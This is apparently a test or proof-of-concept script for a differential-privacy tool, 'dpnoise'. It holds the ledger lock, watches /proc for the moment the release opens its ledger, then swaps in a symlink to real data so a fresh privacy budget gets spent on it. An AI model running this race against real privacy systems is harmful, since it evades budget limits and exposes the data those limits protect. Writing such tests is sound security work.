# Attack: nothing is at a name when it is looked at, and a link to data when it is opened: their rows had the place of the link, and a
# second budget by their own name. The ledger is held until the release waits for it, which is between the two: a name
# this long is that of no registered data, for which the ledger would be opened first.
printf 'x\n1\n2\n' >v.csv
dpnoise budget init other --epsilon 1 >/dev/null
/usr/bin/python3 - <<'END'
import os, sqlite3, subprocess

def opened(process, name):
    folder = f"/proc/{process}/fd/"
    for each in os.listdir(folder):
        try:
            if os.readlink(folder + each).endswith(name):
                return True
        except FileNotFoundError:
            pass
    return False

ledger = sqlite3.connect("dpnoise-ledger.db", isolation_level=None)
ledger.execute("BEGIN EXCLUSIVE")
asks = subprocess.Popen(f"dpnoise release {'./' * 60}late.csv --dataset late --new-budget --count --epsilon 1 --wait 300000".split(),
                        stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True)
while asks.poll() is None and not opened(asks.pid, "/dpnoise-ledger.db"):
    pass
os.symlink("v.csv", "late.csv")
ledger.execute("ROLLBACK")
print(asks.communicate()[0], end="")
print("exit code", asks.returncode)
END
dpnoise budget history | awk '{ print $3, $4 }'
